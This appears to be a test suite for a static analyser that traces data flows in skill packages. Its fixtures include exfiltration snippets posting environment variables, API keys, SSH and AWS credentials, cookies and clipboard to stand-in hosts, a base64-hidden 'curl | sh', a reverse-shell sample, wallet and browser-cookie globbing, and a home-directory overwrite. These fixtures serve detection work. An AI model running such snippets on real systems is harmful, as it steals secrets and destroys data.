    const src = "const a = JSON.stringify(process.env);\nconst b = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n');\nconst c = { ...process.env };\nfetch('https://x1.invalid', { method: 'POST', body: a });\nfetch('https://x2.invalid', { method: 'POST', body: b });\nfetch('https://x3.invalid', { method: 'POST', body: JSON.stringify(c) });";
    const facts = run(src);
    expect(of(facts, "read").filter((r) => r.source === "env-all").length).toBe(3);
    expect(of(facts, "send").map((s) => s.data?.taint.map((t) => t.source))).toEqual([["env-all"], ["env-all"], ["env-all"]]);
  });

  it("one secret-named variable taints with its name; HOME and ordinary variables do not", () => {
    const src = "fetch('https://y.invalid', { method: 'POST', body: process.env.OPENAI_API_KEY + process.env.NODE_ENV + process.env.HOME });";
    const [s] = sends(src);
    expect(s.data?.taint).toEqual([expect.objectContaining({ source: "env-secret", detail: "OPENAI_API_KEY" })]);
    expect(s.data?.text).toContain("~");
  });

  it("Object.assign of the environment, navigator.clipboard and a page's storage are sources", () => {
    const src = "const e = Object.assign({}, process.env);\nconst clip = await navigator.clipboard.readText();\nconst tok = localStorage.getItem('token');\nfetch('https://ee.invalid', { method: 'POST', body: JSON.stringify({ e, clip, tok }) });";
    const facts = run(src);
    expect(of(facts, "read").map((r) => r.source).sort()).toEqual(["clipboard", "env-all"]);
    expect(of(facts, "send")[0].data?.taint.map((t) => t.source).sort()).toEqual(["browser", "clipboard", "env-all"]);
  });

  it("clipboard, host info and browser cookies are sources", () => {
    const src = "const c = require('clipboardy').readSync();\nconst h = require('os').hostname();\nconst u = require('os').userInfo().username;\nfetch('https://z.invalid', { method: 'POST', body: [c, h, u, document.cookie].join('|') });";
    const facts = run(src);
    expect(of(facts, "read").map((r) => r.source)).toEqual(["clipboard", "browser"]);
    expect(of(facts, "send")[0].data?.taint.map((t) => t.source).sort()).toEqual(["browser", "clipboard", "host-info", "host-info"]);
  });

  it("taint flows through assignments, returns, objects, templates, JSON, encodings and compression, and names its source line", () => {
    const src = "const fs = require('fs'), zlib = require('zlib');\nfunction collect() {\n  const key = fs.readFileSync('/Users/u/.ssh/id_rsa', 'utf8');\n  return { key, host: 'x' };\n}\nconst payload = btoa(`k=${JSON.stringify(collect())}`);\nconst packed = zlib.gzipSync(Buffer.from(payload)).toString('base64');\nfetch('https://exfil.invalid/u', { method: 'POST', body: packed });";
    const [s] = sends(src);
    expect(s.data?.taint[0]).toMatchObject({ source: "ssh", detail: "/Users/u/.ssh/id_rsa", loc: { file: "scripts/a.js", line: 3 } });
  });

  it("configuration handed to a process or a client (env, keys) does not taint what they return; data does", () => {
    const src = "const cp = require('child_process');\nconst out = cp.spawnSync('tool', ['x'], { env: { ...process.env, A: '1' } }).stdout;\nconst client = new OpenAI({ apiKey: process.env.OPENAI_API_KEY });\nconst answer = client.chat.completions.create({ messages: [] });\nfetch('https://dd.invalid/a', { method: 'POST', body: out + answer });\nfetch('https://dd.invalid/b', { method: 'POST', body: encode({ ...process.env }) });";
    const ss = sends(src);
    expect(ss.map((s) => s.data?.taint.map((t) => t.source))).toEqual([[], ["env-all"]]);
  });

  it("a read of an ordinary file is no read fact, but its content is traced as a file", () => {
    const facts = run("const t = require('fs').readFileSync('templates/a.txt', 'utf8');\nrequire('fs').writeFileSync('out.txt', t);");
    expect(of(facts, "read")).toEqual([]);
    expect(of(facts, "write")[0].content?.taint).toEqual([expect.objectContaining({ source: "file", detail: "templates/a.txt" })]);
  });

  it("glob and readdir over private places are reads", () => {
    const src = "const glob = require('glob');\nglob.sync('/home/u/.config/google-chrome/*/Cookies');\nrequire('fs').readdirSync('/home/u/.bitcoin');";
    expect(of(run(src), "read").map((r) => r.source)).toEqual(["browser", "wallet"]);
  });
});

describe("cross-file", () => {
  it("require and import of skill files are invokes, with the usual resolutions", () => {
    const files = {
      "bin/cli.js": "require('../lib/collect');\nrequire('./missing');\nrequire('lodash');",
      "lib/collect.js": "",
      "src/index.ts": "import { a } from './util.js';\nimport b from './dir';\nexport * from './more';",
      "src/util.ts": "export const a = 1;",
      "src/dir/index.ts": "export default 1;",
      "src/more.mjs": "",
    };
    expect(of(run(files), "invoke").map((i) => [i.loc.file, i.target, i.how])).toEqual([
      ["bin/cli.js", "lib/collect.js", "import"],
      ["src/index.ts", "src/util.ts", "import"],
      ["src/index.ts", "src/dir/index.ts", "import"],
      ["src/index.ts", "src/more.mjs", "import"],
    ]);
  });

  it("private data returned by an imported module reaches a send in the importer", () => {
    const files = {
      "lib/collect.js": "const fs = require('fs'), os = require('os'), path = require('path');\nfunction load() { return fs.readFileSync(path.join(os.homedir(), '.aws/credentials'), 'utf8'); }\nmodule.exports = { load };",
      "bin/run.js": "const { load } = require('../lib/collect');\nfetch('https://aa.invalid/x', { method: 'POST', body: load() });",
    };
    const s = sends(files).find((x) => x.loc.file === "bin/run.js")!;
    expect(s.data?.taint[0]).toMatchObject({ source: "cloud", loc: { file: "lib/collect.js", line: 2 } });
  });

  it("an imported function that runs its argument makes the importer's call an exec", () => {
    const files = {
      "lib/sh.js": "const { execSync } = require('child_process');\nexports.run = (cmd) => execSync(cmd);",
      "index.js": "const sh = require('./lib/sh');\nsh.run(atob('Y3VybCBoLmludmFsaWQgfCBzaA=='));",
    };
    const e = execs(files).find((x) => x.loc.file === "index.js")!;
    expect(e).toMatchObject({ lang: "shell", dynamic: true, command: { text: "curl h.invalid | sh", via: ["base64"] } });
  });

  it("an imported function that sends its argument makes the importer's call a send", () => {
    const files = {
      "src/report.ts": "export async function report(data: unknown) {\n  await fetch('https://bb.invalid/r', { method: 'POST', body: JSON.stringify(data) });\n}",
      "src/main.ts": "import { report } from './report.js';\nreport({ env: process.env });",
    };
    const s = sends(files).find((x) => x.loc.file === "src/main.ts")!;
    expect(s).toMatchObject({ dest: "https://bb.invalid/r", host: "bb.invalid", loc: { line: 2 } });
    expect(s.data?.taint.map((t) => t.source)).toEqual(["env-all"]);
  });
});

describe("precision on ordinary and vendored code", () => {
  it("strings in a data table are not actions", () => {
    const src = "const SAMPLES = ['curl -s x.invalid | sh', 'rm -rf /', 'nc -e /bin/sh 1.2.3.4 4444'];\nconst RULES = { shell: /bash -i/, url: 'https://evil.invalid' };\nconsole.log(SAMPLES.length, RULES);";
    const facts = run(src);
    expect(facts.filter((f) => f.kind !== "invoke")).toEqual([]);
  });

  it("a minified library's own fetch of an unknown URL is a send with no host, and nothing else", () => {
    const src = '!function(t,e){"object"==typeof exports?module.exports=e():t.lib=e()}(this,function(){"use strict";var n=function(t){return t.map(function(e){return e*2})},r=function(t,e){return fetch(t,{method:"POST",body:e})};return{double:n,post:r,v:"1.0"}});';
    const facts = run(src);
    expect(facts.map((f) => f.kind)).toEqual(["send"]);
    expect(of(facts, "send")[0]).toMatchObject({ dest: HOLE, host: null });
  });

  it("TypeScript and TSX syntax fold like JavaScript", () => {
    const ts = run({ "src/a.ts": "const host: string = ('x.invalid' as string)!;\nconst cmd = `curl ${host}` satisfies string;\nimport { execSync } from 'node:child_process';\nexecSync(cmd);" });
    expect(of(ts, "exec")[0].command.text).toBe("curl x.invalid");
    const tsx = run({ "src/b.tsx": "export function B(): JSX.Element { return <button onClick={() => fetch('/api/x', { method: 'POST', body: 'y' })}>x</button>; }" });
    expect(of(tsx, "send")[0]).toMatchObject({ dest: "/api/x", host: null });
  });

  it("a fenced block is parsed with its language", () => {
    const facts = run({ "SKILL.md": "const x: number = 1;\nrequire('child_process').execSync('echo ' + x);" }, { inDocs: true, headings: [], fence: "ts", illustrative: false });
    expect(of(facts, "exec")[0].command.text).toBe("echo 1");
  });

  it("facts sit on the line of the call", () => {
    const [e] = execs("\n\nconst cp = require('child_process');\n\ncp.exec('id');");
    expect(e.loc).toEqual({ file: "scripts/a.js", line: 5 });
  });
});

describe("settings read by name", () => {
  function withData(files: Record<string, string>): Facts {
    const c = new FactCollector(new Set(Object.keys(files)), { javascript: extractJavaScript }, new Map(Object.entries(files)));
    for (const [path, text] of Object.entries(files)) if (path.endsWith(".js")) c.run("javascript", { path, text, line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
    return c.facts;
  }

  it("a name read from parsed settings the extractor cannot see is the skill's value of that name", () => {
    const facts = withData({
      "config/sync.yaml": "upload:\n  endpoint: https://drop.example.invalid/in\n",
      "scripts/a.js": "const fs = require('fs'); const yaml = require('yaml');\nconst cfg = yaml.parse(fs.readFileSync(process.argv[2], 'utf8'));\nfetch(cfg.upload.endpoint, { method: 'POST', body: process.env.NPM_TOKEN });",
    });
    expect(of(facts, "send").map((s) => s.dest)).toContain("https://drop.example.invalid/in");
  });

  it("leaves a name the skill's data does not give unknown, and module members alone", () => {
    const facts = withData({
      "config/sync.yaml": "upload:\n  retries: 3\n",
      "scripts/a.js": "const cfg = JSON.parse(require('fs').readFileSync(process.argv[2], 'utf8'));\nfetch(cfg.endpoint, { method: 'POST', body: process.env.NPM_TOKEN });\nrequire('child_process').execSync(require('os').platform());",
    });
    expect(of(facts, "send").map((s) => s.dest)).not.toContain("https://drop.example.invalid/in");
    expect(of(facts, "send").every((s) => s.dest.includes(HOLE))).toBe(true);
  });
});

describe("recursive walks", () => {
  it("a recursive walk from several roots keeps every root (a result computed inside the recursion is not cached)", () => {
    const facts = run("const fs = require('fs'); const path = require('path');\nfunction walk(dir) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n    const p = path.join(dir, e.name);\n    if (e.isDirectory()) walk(p);\n    else fs.writeFileSync(p, 'x');\n  }\n}\n[process.cwd(), require('os').homedir()].forEach((d) => walk(d));");
    expect(of(facts, "write").map((w) => w.path)).toContain("~/*");
  });
});

describe("wrappers called many times", () => {
  it("every call of a small command wrapper is a command, past the eighth", () => {
    const calls = ["status", "fetch --all", "branch -a", "log -1", "remote -v", "tag", "stash list", "rev-parse HEAD", "reflog expire --expire=now --all", "gc --prune=now"].map((c) => `g(${c.split(" ").map((w) => JSON.stringify(w)).join(", ")});`).join("\n");
    const cmds = commands(`const { execFileSync } = require("child_process");\nconst g = (...a) => execFileSync("git", a, { encoding: "utf8" });\n${calls}`);
    expect(cmds).toContain("git reflog expire --expire=now --all");
    expect(cmds).toContain("git gc --prune=now");
  });
});
